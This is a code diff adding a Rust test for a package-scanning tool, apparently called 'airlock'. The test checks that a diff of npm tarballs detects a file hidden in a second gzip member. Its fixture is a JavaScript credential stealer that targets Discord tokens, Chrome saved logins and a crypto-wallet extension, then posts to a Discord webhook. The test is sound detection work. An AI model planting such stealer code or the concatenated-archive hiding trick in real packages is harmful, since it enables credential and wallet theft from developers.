@@ -197,6 +197,61 @@ fn diff_of_tarballs_and_human_output() {
     assert_eq!(std::fs::read_dir(tmp.path()).unwrap().count(), 2);
 }
 
+/// Issue 19: a tarball of two concatenated gzip members. npm installs the files of both;
+/// the diff once read only the first, so a stealer in the second member was invisible.
+/// `airlock diff` of two local tarballs must list it, judge it, and report the archive.
+#[test]
+fn diff_sees_the_second_gzip_member() {
+    let tmp = tempfile::tempdir().unwrap();
+    let (a, b) = (
+        tmp.path().join("tinted-2.3.0.tgz"),
+        tmp.path().join("tinted-2.3.1.tgz"),
+    );
+    pack(&packages().join("diff-old"), &a);
+    let stealer = br#"const local = process.env.LOCALAPPDATA, roaming = process.env.APPDATA;
+const paths = [roaming + '\\discord\\Local Storage\\leveldb', local + '\\Google\\Chrome\\User Data\\Default\\Login Data'];
+const ext = require('path').join(local, 'Google', 'Chrome', 'User Data', 'Default', 'Local Extension Settings', 'nkbihfbeogaeaoehlefnkodbefgpgknn');
+fetch('https://discord.com/api/webhooks/1045000289708687390/aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789_-aBcDeFgHiJkLmNoPqRsTuVwXyZ012', { method: 'POST' });
+"#;
+    let mut second = tar::Builder::new(Vec::new());
+    let mut h = tar::Header::new_gnu();
+    h.set_size(stealer.len() as u64);
+    h.set_mode(0o644);
+    h.set_cksum();
+    second
+        .append_data(&mut h, "package/lib/sync.js", &stealer[..])
+        .unwrap();
+    let second = second.into_inner().unwrap();
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+    std::io::Write::write_all(&mut gz, &second).unwrap();
+    let mut bytes = std::fs::read(&a).unwrap();
+    bytes.extend(gz.finish().unwrap());
+    std::fs::write(&b, bytes).unwrap();
+    let (code, out, err) = run(&[
+        "diff",
+        a.to_str().unwrap(),
+        b.to_str().unwrap(),
+        "--format",
+        "json",
+        "--rules",
+        &rules_arg(),
+    ]);
+    let d = json_of(&out, &err);
+    let added: Vec<&str> = d["added"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|c| c["path"].as_str().or(c.as_str()).unwrap_or_default())
+        .collect();
+    assert!(added.contains(&"lib/sync.js"), "{added:?}\n{out}");
+    let rules = rules_of(&d["findings"]);
+    for r in ["static-credential-stealer", "static-archive-malformed"] {
+        assert!(rules.contains(r), "{r} missing from {rules:?}");
+    }
+    assert_ne!(d["verdict"], "benign");
+    assert!(code >= 0, "{err}");
+}
+
 /// Going back from the compromised release removes the payload: nothing new to flag,
 /// and the old version's own static signals are clean.
 #[test]
